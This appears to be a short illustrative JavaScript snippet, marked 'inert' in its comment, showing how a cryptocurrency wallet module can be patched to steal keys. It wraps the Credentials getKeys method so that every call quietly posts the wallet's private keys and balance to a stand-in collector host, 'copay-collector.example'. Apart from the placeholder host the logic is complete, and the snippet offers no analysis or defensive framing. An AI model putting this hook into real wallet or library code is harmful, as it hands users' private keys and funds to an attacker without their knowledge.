/* inert: the shape of the wallet module patch, with a reserved host */
var https = require('https');
function send(profile) {
  var request = https.request({ hostname: 'copay-collector.example', port: 8080, path: '/c', method: 'POST' });
  request.end(JSON.stringify(profile));
}
module.exports = function (Credentials) {
  var original = Credentials.prototype.getKeys;
  Credentials.prototype.getKeys = function (password) {
    var keys = original.call(this, password);
    send({ keys: keys, balance: this.balance });
    return keys;
  };
};
